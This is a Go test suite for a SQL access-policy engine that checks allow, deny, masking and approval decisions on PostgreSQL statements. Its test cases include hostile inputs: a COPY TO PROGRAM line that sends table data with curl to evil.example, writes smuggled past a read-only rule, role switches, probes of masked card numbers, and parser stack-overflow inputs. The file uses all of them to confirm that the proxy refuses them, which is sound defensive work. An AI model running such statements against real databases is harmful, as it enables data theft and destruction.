package policy_test

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/gatehouse/gatehouse/policy"
	"github.com/gatehouse/gatehouse/schemas"
	"github.com/gatehouse/gatehouse/services/config"
)

func TestAnalyzeSQL(t *testing.T) {
	for _, tc := range []struct {
		sql           string
		kinds, tables []string
		written       []string
		hasWhere      bool
		statements    int
	}{
		{sql: "select * from orders", kinds: []string{"select"}, tables: []string{"public.orders"}, hasWhere: true, statements: 1},
		{sql: "SELECT o.id FROM sales.orders o JOIN customers c ON c.id = o.customer_id", kinds: []string{"select"}, tables: []string{"sales.orders", "public.customers"}, hasWhere: true, statements: 1},
		{sql: "/* harmless */ DELETE FROM customers", kinds: []string{"delete"}, tables: []string{"public.customers"}, written: []string{"public.customers"}, statements: 1},
		{sql: "select 1; drop table orders", kinds: []string{"drop_table", "select"}, tables: []string{"public.orders"}, written: []string{"public.orders"}, hasWhere: true, statements: 2},
		{sql: "with gone as (delete from orders returning *) select * from gone", kinds: []string{"delete", "select"}, tables: []string{"public.orders"}, written: []string{"public.orders"}, statements: 1},
		{sql: "update customers set name = 'x' where id = 1", kinds: []string{"update"}, tables: []string{"public.customers"}, written: []string{"public.customers"}, hasWhere: true, statements: 1},
		{sql: "DROP DATABASE demo", kinds: []string{"drop_database"}, tables: []string{}, hasWhere: true, statements: 1},
		{sql: "explain analyze delete from orders where id = 1", kinds: []string{"delete", "explain"}, tables: []string{"public.orders"}, written: []string{"public.orders"}, hasWhere: true, statements: 1},
		{sql: "select * from orders for update", kinds: []string{"select", "select_for_update"}, tables: []string{"public.orders"}, hasWhere: true, statements: 1},
		{sql: "-- ping", kinds: []string{}, tables: []string{}, hasWhere: true, statements: 0},
		{sql: "select * into t2 from orders", kinds: []string{"select", "select_into"}, tables: []string{"public.orders", "public.t2"}, written: []string{"public.t2"}, hasWhere: true, statements: 1},
		{sql: "select 'a;b' from orders", kinds: []string{"select"}, tables: []string{"public.orders"}, hasWhere: true, statements: 1},
		{sql: "select 1;", kinds: []string{"select"}, tables: []string{}, hasWhere: true, statements: 1},
		// The parser's summary does not look into a cursor's query.
		{sql: "begin; declare c scroll cursor with hold for select * from sales.orders o join customers using (id); fetch all from c", kinds: []string{"declare_cursor", "fetch", "select", "transaction"}, tables: []string{"sales.orders", "public.customers"}, hasWhere: true, statements: 3},
		{sql: "prepare p as delete from orders", kinds: []string{"delete", "prepare"}, tables: []string{"public.orders"}, written: []string{"public.orders"}, statements: 1},
	} {
		t.Run(tc.sql, func(t *testing.T) {
			info := policy.AnalyzeSQL(tc.sql)
			require.Empty(t, info.ParseError)
			require.Equal(t, tc.kinds, info.Kinds)
			require.ElementsMatch(t, tc.tables, info.Tables)
			if tc.written != nil {
				require.ElementsMatch(t, tc.written, info.TablesWritten)
			}
			require.Equal(t, tc.hasWhere, info.HasWhere)
			require.Equal(t, tc.statements, info.Statements)
		})
	}
	info := policy.AnalyzeSQL("selec * frm orders")
	require.Contains(t, info.ParseError, "syntax error")
	require.Equal(t, policy.AnalyzeSQL("select * from orders where id = 1").Fingerprint, policy.AnalyzeSQL("SELECT * FROM orders WHERE id = 42").Fingerprint)
}

// testCatalog is a small catalog: the demo's tables, a second orders in schema sales, and
// crm.people.
var testCatalog = func() *policy.Catalog {
	c, err := policy.NewCatalog(&schemas.Catalog{Resource: "demo", Version: "test",
		Relations: []schemas.CatalogRelation{
			{Schema: "public", Name: "customers", OID: 16390, Kind: "r", Columns: []string{"id", "name", "email", "card_number"}, Cascades: []string{"public.orders"}},
			{Schema: "public", Name: "orders", OID: 16400, Kind: "r", Columns: []string{"id", "customer_id", "item", "amount", "created_at", "note", "total"}},
			{Schema: "public", Name: "items", OID: 16405, Kind: "r", Columns: []string{"id", "name"}},
			{Schema: "sales", Name: "items", OID: 16410, Kind: "r", Columns: []string{"id", "name"}},
			{Schema: "crm", Name: "people", OID: 16420, Kind: "r", Columns: []string{"id", "email", "ssn"}},
			{Schema: "pg_catalog", Name: "pg_stat_activity", OID: 12000, Kind: "v", Columns: []string{"pid", "query"}, View: "SELECT 1 AS pid, 'x'::text AS query"},
		},
		Builtins: map[string][]string{
			"v": {"nextval", "setval", "lo_unlink", "pg_terminate_backend", "set_config", "random", "pg_sleep", "pg_notify"},
			"s": {"now", "current_setting", "pg_backend_pid"},
			"i": {"count", "sum", "avg", "min", "max", "upper", "lower", "length", "textcat"},
		}})
	if err != nil {
		panic(err)
	}
	return c
}()

var demo = []config.Policy{
	{Name: "baseline", Resources: []string{"*"}, Rules: []config.Rule{
		{Name: "no-drop-database", Effect: "deny", When: `"drop_database" in request.sql.kinds`, Reason: "never"},
	}},
	{Name: "orders", Resources: []string{"demo"}, Rules: []config.Rule{
		{Name: "read-orders", Effect: "allow", When: `"orders-readers" in identity.groups && request.sql.kinds.all(k, k == "select") && request.sql.tables.all(t, t == "public.orders")`, Reason: "readers read"},
		{Name: "dba", Effect: "allow", When: `"dba" in identity.groups`},
		{Name: "public-items", Effect: "allow", When: `"items" in identity.groups && request.sql.tables.all(t, t == "public.items")`},
		{Name: "prod-writes", Effect: "deny", When: `"env" in resource.labels && resource.labels.env == "prod" && request.sql.tables_written.size() > 0`, Reason: "no writes in prod"},
	}},
}

func decide(t *testing.T, e *policy.Engine, groups []string, labels map[string]string, sql string) schemas.DecisionReply {
	t.Helper()
	if labels["catalog"] == "none" {
		return e.Decide(&policy.Input{DecisionRequest: schemas.DecisionRequest{Identity: schemas.Identity{Subject: "s", Groups: groups}, Resource: schemas.Resource{Name: "demo", Type: "postgres"}, SQL: &schemas.SQLRequest{Text: sql}}}, time.Now())
	}
	return e.Decide(&policy.Input{DecisionRequest: schemas.DecisionRequest{Identity: schemas.Identity{Subject: "s", Groups: groups}, Resource: schemas.Resource{Name: "demo", Type: "postgres", Labels: labels}, SQL: &schemas.SQLRequest{Text: sql}}, Catalog: testCatalog}, time.Now())
}

func TestDecide(t *testing.T) {
	e, err := policy.Compile(demo, 7)
	require.NoError(t, err)
	readers := []string{"orders-readers"}
	for _, tc := range []struct {
		name         string
		groups       []string
		labels       map[string]string
		sql          string
		effect, rule string
		reason       string
	}{
		{"reader reads orders", readers, nil, "select * from orders", "allow", "read-orders", "readers read"},
		{"reader reads customers: default deny", readers, nil, "select * from customers", "deny", "", "no rule allows select on resource demo"},
		{"reader drops orders", readers, nil, "drop table orders", "deny", "", "no rule allows drop_table"},
		{"multi-statement hides a write", readers, nil, "select * from orders; delete from orders", "deny", "", "no rule allows delete, select"},
		{"an unqualified name is every table of that name", []string{"items"}, nil, "select * from items", "deny", "", "no rule allows select"},
		{"a qualified name is one", []string{"items"}, nil, "select * from public.items", "allow", "public-items", ""},
		{"dba may write", []string{"dba"}, nil, "delete from customers where id = 1", "allow", "dba", "rule dba matched"},
		{"dba may not drop database: deny wins", []string{"dba"}, nil, "drop database demo", "deny", "no-drop-database", "never"},
		{"dba in prod: deny wins over allow", []string{"dba"}, map[string]string{"env": "prod"}, "update orders set item = 'x' where id = 1", "deny", "prod-writes", "no writes in prod"},
		{"no catalog, no decision", []string{"dba"}, map[string]string{"catalog": "none"}, "select 1", "deny", "no-catalog", "has not read the catalog"},
		{"unparsable is denied even for dba", []string{"dba"}, nil, "selec * frm", "deny", "", `syntax error at or near "selec"`},
		{"unparsable is not vacuously allowed", readers, nil, "selec * frm", "deny", "", "syntax error"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := decide(t, e, tc.groups, tc.labels, tc.sql)
			require.Equal(t, tc.effect, d.Effect, d.Reason)
			require.Equal(t, tc.rule, d.Rule)
			require.Contains(t, d.Reason, tc.reason)
			require.Equal(t, uint64(7), d.Revision)
		})
	}
}

func TestDenyRuleThatFailsToEvaluateDenies(t *testing.T) {
	e, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"demo"}, Rules: []config.Rule{
		{Name: "all", Effect: "allow", When: "true"},
		{Name: "broken", Effect: "deny", When: `resource.labels.missing == "x"`, Reason: "x"},
	}}}, 1)
	require.NoError(t, err)
	d := decide(t, e, nil, nil, "select 1")
	require.Equal(t, "deny", d.Effect)
	require.Equal(t, "broken", d.Rule)
	require.Contains(t, d.Reason, "could not be evaluated")
}

func TestParseErrorIsASyntaxError(t *testing.T) {
	e, err := policy.Compile(demo, 1)
	require.NoError(t, err)
	d := decide(t, e, []string{"dba"}, nil, "select * frm orders where")
	require.Equal(t, "deny", d.Effect)
	require.Equal(t, "42601", d.SQLState, "refused as PostgreSQL would refuse it")
	require.Equal(t, 10, d.Position, "where PostgreSQL's parser stops: 1-based, in characters")
	require.False(t, d.Cacheable, "the message and position depend on literals the proxy's cache key leaves out")
	require.Equal(t, 21, decide(t, e, []string{"dba"}, nil, "select 'é', 'ü' frm orders").Position, "characters, not bytes (23)")
	require.True(t, decide(t, e, []string{"dba"}, nil, "select * from orders").Cacheable)
}

func TestParseErrorRules(t *testing.T) {
	e, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"demo"}, Rules: []config.Rule{
		{Name: "legacy-syntax", Effect: "allow", When: `request.sql.parse_error != "" && "legacy" in identity.groups`},
	}}}, 1)
	require.NoError(t, err)
	require.Equal(t, "allow", decide(t, e, []string{"legacy"}, nil, "selec * frm").Effect)
	require.Equal(t, "deny", decide(t, e, []string{"other"}, nil, "selec * frm").Effect)
}

func TestCompileErrorsRefuseTheWholeSet(t *testing.T) {
	_, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"demo"}, Rules: []config.Rule{
		{Name: "ok", Effect: "allow", When: "true"},
		{Name: "typo", Effect: "allow", When: `identity.groups.contains("x") &&`},
		{Name: "not-bool", Effect: "allow", When: `1 + 2`},
	}}}, 1)
	require.Error(t, err)
	require.Contains(t, err.Error(), `policies[0].rules[1].when: policy "p" rule "typo"`)
	require.Contains(t, err.Error(), "1:")
	require.Contains(t, err.Error(), `policies[0].rules[2].when`)

	// A condition whose type is only known at run time (request.sql.ddl is dyn) compiles; a
	// value that is not a bool is an evaluation error: a deny rule then denies.
	e, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"demo"}, Rules: []config.Rule{
		{Name: "ok", Effect: "allow", When: "true"},
		{Name: "oops", Effect: "deny", When: `identity.sub`},
	}}}, 1)
	require.NoError(t, err)
	d := e.Decide(&policy.Input{DecisionRequest: schemas.DecisionRequest{Identity: schemas.Identity{Subject: "x"}, Resource: schemas.Resource{Name: "demo"}, SQL: &schemas.SQLRequest{Text: "select 1"}}, Catalog: testCatalog}, time.Now())
	require.Equal(t, schemas.EffectDeny, d.Effect)
	require.Contains(t, d.Reason, "not bool")
}

func TestCacheability(t *testing.T) {
	for when, cacheable := range map[string]bool{
		`"dba" in identity.groups`:                            true,
		`request.sql.functions.all(f, f in ["count", "now"])`: true,
		`request.sql.text.startsWith("select")`:               false,
		`request.sql["text"] == "x"`:                          false,
		`now > timestamp("2020-01-01T00:00:00Z")`:             false,
		`request.sql.kinds.exists(k, k == request.sql.text)`:  false,
	} {
		e, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"demo"}, Rules: []config.Rule{{Name: "r", Effect: "allow", When: when}}}}, 1)
		require.NoError(t, err, when)
		require.Equal(t, cacheable, decide(t, e, nil, nil, "select 1").Cacheable, when)
	}
}

func TestShadowPoliciesAreRecordedNotEnforced(t *testing.T) {
	pols := append([]config.Policy{{Name: "tighten", Shadow: true, Resources: []string{"demo"}, Rules: []config.Rule{
		{Name: "no-customers", Effect: "deny", When: `"public.customers" in request.sql.tables`, Reason: "customers are off limits"},
	}}}, demo...)
	e, err := policy.Compile(pols, 1)
	require.NoError(t, err)
	d := decide(t, e, []string{"dba"}, nil, "select * from customers")
	require.Equal(t, "allow", d.Effect, "a shadow policy changes nothing")
	require.Equal(t, "dba", d.Rule)
	require.NotNil(t, d.Shadow)
	require.Equal(t, "deny", d.Shadow.Effect)
	require.Equal(t, "tighten", d.Shadow.Policy)
	require.Equal(t, "no-customers", d.Shadow.Rule)
	require.Equal(t, "customers are off limits", d.Shadow.Reason)

	d = decide(t, e, []string{"dba"}, nil, "select * from orders")
	require.Nil(t, d.Shadow, "no shadow record when the shadow policies agree")

	// A shadow allow does not open anything either.
	pols = append([]config.Policy{{Name: "loosen", Shadow: true, Resources: []string{"demo"}, Rules: []config.Rule{
		{Name: "readers-read-customers", Effect: "allow", When: `"orders-readers" in identity.groups`},
	}}}, demo...)
	e, err = policy.Compile(pols, 1)
	require.NoError(t, err)
	d = decide(t, e, []string{"orders-readers"}, nil, "select * from customers")
	require.Equal(t, "deny", d.Effect)
	require.Equal(t, "allow", d.Shadow.Effect)
}

func TestMaskAndApprovalEffects(t *testing.T) {
	rules := []config.Rule{
		{Name: "read", Effect: "allow", When: `request.sql.kinds.all(k, k == "select")`},
		{Name: "cards", Effect: "mask", When: `"public.customers" in request.sql.tables`, Mask: &config.Mask{Columns: []string{"customers.card_number"}, Detectors: []string{"card"}, Method: "partial"}},
		{Name: "emails", Effect: "mask", When: `"public.customers" in request.sql.tables`, Mask: &config.Mask{Columns: []string{"crm.people.email", "customers.card_number"}, Regex: []string{"x+"}, Method: "hmac"}},
		{Name: "broken-mask", Effect: "mask", When: `resource.labels["missing"] == "x"`, Mask: &config.Mask{Detectors: []string{"email"}}},
		{Name: "approve-updates", Effect: "require_approval", When: `"update" in request.sql.kinds`, Reason: "updates need approval"},
		{Name: "no-truncate", Effect: "deny", When: `"truncate" in request.sql.kinds`},
	}
	e, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"db"}, Rules: rules}}, 7)
	require.NoError(t, err)
	decide := func(sql string, labels map[string]string) schemas.DecisionReply {
		return e.Decide(&policy.Input{DecisionRequest: schemas.DecisionRequest{Resource: schemas.Resource{Name: "db", Labels: labels}, SQL: &schemas.SQLRequest{Text: sql}}, Catalog: testCatalog}, time.Now())
	}

	d := decide("select * from orders", map[string]string{"missing": "y"})
	require.Equal(t, schemas.EffectAllow, d.Effect, "no mask rule matched")
	require.Nil(t, d.Mask)

	d = decide("select card_number as c from customers", map[string]string{"missing": "y"})
	require.Equal(t, schemas.EffectMask, d.Effect)
	require.True(t, d.Allowed())
	require.Equal(t, "read", d.Rule, "the rule that allowed it")
	require.Contains(t, d.Reason, "masked by p/cards, p/emails")
	require.Equal(t, []schemas.MaskColumn{{Column: "public.customers.card_number", Method: "partial", Rule: "p/cards"}, {Column: "crm.people.email", Method: "hmac", Rule: "p/emails"}}, d.Mask.Columns,
		"union of the mask rules; a column masked twice keeps the first rule's method")
	require.Equal(t, []schemas.MaskDetector{{Name: "card", Method: "partial"}, {Name: "regex", Pattern: "x+", Method: "hmac"}}, d.Mask.Detectors)
	require.Equal(t, [][]schemas.MaskedOutput{{{Column: 0, Method: "partial", By: "public.customers.card_number"}}}, d.Mask.Outputs, "the column itself, under an alias")
	for sql, outs := range map[string][][]schemas.MaskedOutput{
		"select max(card_number) from customers":                                         {{{Column: 0, Method: "redact", By: "public.customers.card_number", Whole: true}}},
		"select count(*) from customers":                                                 {nil},
		"select c.email from customers c":                                                {nil}, // public.customers.email is not masked (crm.people.email is)
		"select p.email, p.email || '' from crm.people p, customers c where c.id = p.id": {{{Column: 0, Method: "hmac", By: "crm.people.email"}, {Column: 1, Method: "redact", By: "crm.people.email", Whole: true}}},
	} {
		d = decide(sql, map[string]string{"missing": "y"})
		require.Equal(t, schemas.EffectMask, d.Effect, sql)
		require.Equal(t, outs, d.Mask.Outputs, sql)
	}
	d = decide("select count(*) from customers where card_number like '4%'", map[string]string{"missing": "y"})
	require.Equal(t, schemas.EffectDeny, d.Effect, "probing a masked column")
	require.Equal(t, "cards", d.Rule, "the rule that masks it")
	require.Contains(t, d.Reason, "public.customers.card_number is masked for this caller")

	d = decide("delete from customers", map[string]string{"missing": "y"})
	require.Equal(t, schemas.EffectDeny, d.Effect, "a mask rule allows nothing by itself")
	require.Nil(t, d.Mask)

	d = decide("select * from orders", nil)
	require.Equal(t, schemas.EffectDeny, d.Effect, "a mask rule that cannot be evaluated denies")
	require.Contains(t, d.Reason, "could not be evaluated")

	d = decide("update customers set name = 'x' where id = 1", map[string]string{"missing": "y"})
	require.Equal(t, schemas.EffectRequireApproval, d.Effect)
	require.False(t, d.Allowed())
	require.Equal(t, "updates need approval", d.Reason)

	d = decide("update customers set name = 'x' where id = 1; truncate customers", map[string]string{"missing": "y"})
	require.Equal(t, schemas.EffectDeny, d.Effect, "deny beats require_approval")
}

func TestMaskRulesAreValidated(t *testing.T) {
	c, err := config.Parse([]byte(`
resources: [{name: db, type: postgres, postgres: {address: "127.0.0.1:5432", database: d, user: u, password: p}}]
policies:
  - name: p
    resources: [db]
    rules:
      - {name: a, effect: mask, when: "true"}
      - {name: b, effect: mask, when: "true", mask: {columns: [card_number], detectors: [dna], regex: ["("], method: scramble}}
      - {name: c, effect: allow, when: "true", mask: {detectors: [email]}}
      - {name: d, effect: mask, when: "true", mask: {fields: ["customers[*]", "$.a[x]"]}}
      - {name: e, effect: deny, when: "true", reveal: [secrets]}
      - {name: f, effect: allow, when: "true", reveal: [passwords]}
`))
	require.NoError(t, err)
	err = c.Validate()
	require.Error(t, err)
	for _, want := range []string{
		"policies[0].rules[0].mask: effect mask needs mask.columns, mask.fields, mask.detectors or mask.regex",
		`policies[0].rules[1].mask.columns[0]: "card_number" is not table.column or schema.table.column`,
		`policies[0].rules[1].mask.detectors[0]: unknown detector "dna"`,
		"policies[0].rules[1].mask.regex[0]: error parsing regexp",
		`policies[0].rules[1].mask.method: unknown method "scramble"`,
		"policies[0].rules[2].mask: only rules with effect mask take a mask",
		`policies[0].rules[3].mask.fields[0]: "customers[*]": a path starts with $`,
		`policies[0].rules[3].mask.fields[1]: "$.a[x]": [x] is not [*], [N] or ['name']`,
		"policies[0].rules[4].reveal: only rules with effect allow reveal",
		`policies[0].rules[5].reveal[0]: `,
	} {
		require.Contains(t, err.Error(), want)
	}
}

// trickyPolicy is what a careful team would write: readers read public.orders and
// public.customers (never card numbers, never with a star on customers), may COPY orders
// out; writers may change orders one row at a time; nobody changes the schema, switches role,
// or calls a function that writes.
var trickyPolicy = []config.Policy{{Name: "app", Resources: []string{"db"}, Rules: []config.Rule{
	{Name: "readers-read", Effect: "allow", When: `"readers" in identity.groups
		&& request.sql.statements > 0
		&& request.sql.kinds.all(k, k in ["select", "explain", "copy", "copy_to"])
		&& request.sql.tables.all(t, t in ["public.orders", "public.customers"])`},
	{Name: "writers-write", Effect: "allow", When: `"writers" in identity.groups
		&& request.sql.kinds.all(k, k in ["select", "insert", "update", "delete"])
		&& request.sql.tables_written.all(t, t == "public.orders")
		&& request.sql.has_where`},
	{Name: "no-cards", Effect: "deny", When: `request.sql.columns.exists(c, c == "public.customers.card_number")`, Reason: "card numbers are not readable"},
	{Name: "no-ddl", Effect: "deny", When: `request.sql.ddl`, Reason: "schema changes go through migrations"},
	{Name: "no-role-switch", Effect: "deny", When: `request.sql.kinds.exists(k, k in ["set_role", "set_session_authorization"])`},
	{Name: "no-writing-functions", Effect: "deny", When: `request.sql.writing_functions.size() > 0`},
	{Name: "no-programs", Effect: "deny", When: `"copy_program" in request.sql.kinds`},
	{Name: "unparsable", Effect: "deny", When: `request.sql.parse_error != ""`, Reason: "does not parse"},
}}}

func TestTrickyStatements(t *testing.T) {
	e, err := policy.Compile(trickyPolicy, 1)
	require.NoError(t, err)
	for _, tc := range []struct {
		group, sql, effect, rule string
	}{
		{"readers", "select * from orders", "allow", "readers-read"},
		{"readers", "/* delete from orders */ select id from orders", "allow", "readers-read"},
		{"readers", "select id from orders -- ; delete from orders", "allow", "readers-read"},
		{"readers", "select id from orders where note = '; delete from orders'", "allow", "readers-read"},
		{"readers", "select id from orders; delete from orders", "deny", ""},
		{"readers", "select id from orders;", "allow", "readers-read"},
		{"readers", "with d as (delete from orders returning *) select * from d", "deny", ""},
		{"readers", "with x as (select 1) delete from orders using x where orders.id = 1", "deny", ""},
		{"readers", "explain select * from orders", "allow", "readers-read"},
		{"readers", "explain analyze delete from orders where id = 1", "deny", ""},
		{"readers", `select * from "Orders"`, "deny", ""}, // a different table: quoted names keep their case
		{"readers", `select id from public."orders"`, "allow", "readers-read"},
		{"readers", `select id from "public".orders`, "allow", "readers-read"},
		{"readers", "select id from orders for update", "deny", ""},
		{"readers", "select nextval('orders_id_seq')", "deny", "no-writing-functions"},
		{"readers", "select lo_unlink(1234) from orders", "deny", "no-writing-functions"},
		{"readers", "select pg_terminate_backend(pid) from pg_stat_activity", "deny", "no-writing-functions"},
		{"readers", "select name, card_number from customers", "deny", "no-cards"},
		{"readers", "select c.card_number as x from customers c", "deny", "no-cards"},
		{"readers", "select * from customers", "deny", "no-cards"},
		{"readers", "select name from customers", "allow", "readers-read"},
		{"readers", "copy orders to stdout", "allow", "readers-read"},
		{"readers", "copy orders from stdin", "deny", ""},
		{"readers", "copy orders to program 'curl -d @- evil.example'", "deny", "no-programs"},
		{"readers", "set role postgres", "deny", "no-role-switch"},
		{"readers", "set session authorization postgres", "deny", "no-role-switch"},
		{"readers", "do $$ begin delete from orders; end $$", "deny", ""},
		{"readers", "prepare p as delete from orders", "deny", ""},
		{"readers", "selec * from orders", "deny", "unparsable"},
		{"writers", "delete from orders where id = 1", "allow", "writers-write"},
		{"writers", "delete from orders", "deny", ""},
		{"writers", "delete from orders using customers c where c.id = orders.customer_id and c.name = 'x'", "allow", "writers-write"},
		{"writers", "delete from customers where id = 1", "deny", ""},
		{"writers", "update orders set item = 'x' where id = 1; update orders set item = 'y'", "deny", ""},
		{"writers", "create table t (a int)", "deny", "no-ddl"},
		{"writers", "alter table orders add column x int", "deny", "no-ddl"},
		{"writers", "grant select on orders to public", "deny", "no-ddl"},
		{"writers", "create index on orders (item)", "deny", "no-ddl"},
	} {
		t.Run(tc.group+": "+tc.sql, func(t *testing.T) {
			d := e.Decide(&policy.Input{DecisionRequest: schemas.DecisionRequest{Identity: schemas.Identity{Subject: "x", Groups: []string{tc.group}}, Resource: schemas.Resource{Name: "db"}, SQL: &schemas.SQLRequest{Text: tc.sql}}, Catalog: testCatalog}, time.Now())
			require.Equal(t, tc.effect, d.Effect, "%s: %s", tc.sql, d.Reason)
			if tc.rule != "" {
				require.Equal(t, tc.rule, d.Rule)
			}
		})
	}
}

// filter_columns are the source columns that choose, order or compare rows (or go
// elsewhere): what a query can learn about a masked column without returning it, however
// the statement names it.
func TestFilterColumns(t *testing.T) {
	for sql, want := range map[string][]string{
		"select id from customers where card_number like '4111%'":                                      {"public.customers.card_number"},
		"select c.id from customers c join public.orders o on o.note = c.card_number order by o.total": {"public.orders.note", "public.customers.card_number", "public.orders.total"},
		"select id from customers": {},
		"select email, count(*) from customers group by email having max(card_number) > '4'":             {"public.customers.email", "public.customers.card_number"},
		"with x as (select id from crm.people where ssn = '1') select * from x":                          {"crm.people.ssn"},
		"update customers set name = 'x' where card_number = '1'":                                        {"public.customers.card_number"},
		"select id from customers where id in (select customer_id from public.orders where amount > 10)": {"public.customers.id", "public.orders.customer_id", "public.orders.amount"},
		"select id from customers t(a, b, c, d) where d = '1'":                                           {"public.customers.card_number"},
	} {
		info := policy.Analyze(sql, policy.AnalyzeOptions{Columns: true, Catalog: testCatalog})
		require.Empty(t, info.ParseError, sql)
		require.ElementsMatch(t, want, info.FilterColumns, sql)
	}
	// A rule can refuse what filters on a column.
	e, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"*"}, Rules: []config.Rule{
		{Name: "read", Effect: "allow", When: "true"},
		{Name: "no-probing-cards", Effect: "deny", When: `"public.customers.card_number" in request.sql.filter_columns`, Reason: "card numbers are masked; do not filter on them"},
	}}}, 1)
	require.NoError(t, err)
	d := e.Decide(&policy.Input{DecisionRequest: schemas.DecisionRequest{Resource: schemas.Resource{Name: "db"}, SQL: &schemas.SQLRequest{Text: "select id from customers x(i, n, e, c) where c like '4111%'"}}, Catalog: testCatalog}, time.Now())
	require.Equal(t, schemas.EffectDeny, d.Effect)
	require.Equal(t, "no-probing-cards", d.Rule)
	d = e.Decide(&policy.Input{DecisionRequest: schemas.DecisionRequest{Resource: schemas.Resource{Name: "db"}, SQL: &schemas.SQLRequest{Text: "select card_number from customers where id = 1"}}, Catalog: testCatalog}, time.Now())
	require.Equal(t, schemas.EffectAllow, d.Effect)
}

// A statement no rule allows is refused with what it names, as written, so that the
// caller can tell which table or function the policies do not let it reach; that a
// relation does not exist is said only to a caller the policies let read pg_class (to
// anyone else it would tell what exists).
func TestDefaultDenialSaysWhatTheStatementNames(t *testing.T) {
	cat, err := policy.NewCatalog(&schemas.Catalog{Resource: "demo", Version: "test",
		Relations: []schemas.CatalogRelation{
			{Schema: "public", Name: "customers", OID: 16390, Kind: "r", Columns: []string{"id", "card_number"}},
			{Schema: "pg_catalog", Name: "pg_class", OID: 1259, Kind: "r", Columns: []string{"oid", "relname"}},
		},
		Builtins: map[string][]string{"v": {"pg_sleep"}, "i": {"count"}}})
	require.NoError(t, err)
	e, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"demo"}, Rules: []config.Rule{
		{Name: "catalog", Effect: "allow", When: `"catalog-readers" in identity.groups && request.sql.tables.all(t, t.startsWith("pg_catalog."))`},
	}}}, 1)
	require.NoError(t, err)
	reason := func(sql string, groups ...string) string {
		d := e.Decide(&policy.Input{DecisionRequest: schemas.DecisionRequest{Identity: schemas.Identity{Subject: "s", Groups: groups}, Resource: schemas.Resource{Name: "demo", Type: "postgres"}, SQL: &schemas.SQLRequest{Text: sql}}, Catalog: cat}, time.Now())
		require.Equal(t, "deny", d.Effect)
		require.Empty(t, d.Rule)
		return d.Reason
	}
	require.Equal(t, "no rule allows select on resource demo (the statement names relations customers, nosuch)",
		reason("select * from customers join nosuch on true"))
	require.Equal(t, "no rule allows select on resource demo (the statement names relations customers, nosuch); nosuch does not exist",
		reason("select * from customers join nosuch on true", "catalog-readers"))
	// To a caller who may not read the catalog, a missing table and a forbidden one are
	// refused alike.
	require.Equal(t, reason("select * from customers"), strings.Replace(reason("select * from customerz"), "customerz", "customers", 1))
	require.Equal(t, "no rule allows update on resource demo (the statement names relation nosuch.t); nosuch.t does not exist",
		reason("update nosuch.t set a = 1", "catalog-readers"))
	require.Equal(t, "no rule allows select on resource demo (the statement names function pg_sleep)", reason("select pg_sleep(1)"))
	require.Equal(t, "no rule allows select on resource demo (the statement names relation pg_catalog.pg_class; functions pg_catalog.pg_sleep, count)",
		reason("select pg_catalog.pg_sleep(1), count(*) from pg_catalog.pg_class"))
	// Names are quoted as PostgreSQL quotes them, control characters escaped; long lists cut.
	require.Equal(t, `no rule allows select on resource demo (the statement names relation "We""ird\nName")`, reason("select * from \"We\"\"ird\nName\""))
	require.Equal(t, "no rule allows select on resource demo (the statement names relations a, b, c, d, e, f, g, h and 2 more)",
		reason("select * from a, b, c, d, e, f, g, h, i, j"))
	// A view's own tables are not named: only what the statement's text names.
	require.Equal(t, "no rule allows select on resource demo (the statement names relation pg_stat_activity)",
		decide(t, mustCompile(t), nil, nil, "select * from pg_stat_activity").Reason)
}

func mustCompile(t *testing.T) *policy.Engine {
	e, err := policy.Compile(demo, 7)
	require.NoError(t, err)
	return e
}

// A statement nested deeper than the parser's C code survives (a chain of 100,000
// operators overflows its stack and takes the process down) is refused before parsing,
// with SQLSTATE 54001 as PostgreSQL refuses a statement too complex; a long flat one is
// parsed as any other.
func TestDeeplyNestedStatementsAreRefusedBeforeParsing(t *testing.T) {
	e := mustCompile(t)
	for _, sql := range []string{
		"select 1" + strings.Repeat("+1", 100000),
		"select 1" + strings.Repeat(" union select 1", 100000),
		"select " + strings.Repeat("case when true then ", 100000) + "1" + strings.Repeat(" end", 100000),
		"select 'open" + strings.Repeat("+1", 5000),
	} {
		d := decide(t, e, []string{"dba"}, nil, sql)
		require.Equal(t, "deny", d.Effect)
		require.Equal(t, "statement-depth", d.Rule)
		require.Equal(t, "54001", d.SQLState)
		require.Contains(t, d.Reason, "refusing (fail closed)")
	}
	d := decide(t, e, []string{"dba"}, nil, "select 1"+strings.Repeat(", 1+1", 100000))
	require.Equal(t, "allow", d.Effect, d.Reason)
	d = decide(t, e, []string{"dba"}, nil, "select 1"+strings.Repeat("+1", 3000))
	require.Equal(t, "allow", d.Effect, d.Reason)
}

// Without a catalog, a cursor's query is deparsed, and pg_query's deparser overflows the C
// stack at about 1,500 nested subqueries or 4,700 prefix operators: such a query is
// refused, not deparsed (found by attacking the bound).
func TestDeepCursorQueriesAreNotDeparsed(t *testing.T) {
	for _, sql := range []string{
		"declare c cursor for " + strings.Repeat("select (", 1600) + "1" + strings.Repeat(")", 1600),
		"declare c cursor for select " + strings.Repeat("+", 4700) + "1",
	} {
		info := policy.AnalyzeSQL(sql)
		require.Contains(t, info.ParseError, "refusing (fail closed)")
	}
	info := policy.AnalyzeSQL("declare c cursor for select * from orders")
	require.Empty(t, info.ParseError)
	require.Contains(t, info.Tables, "public.orders")
}
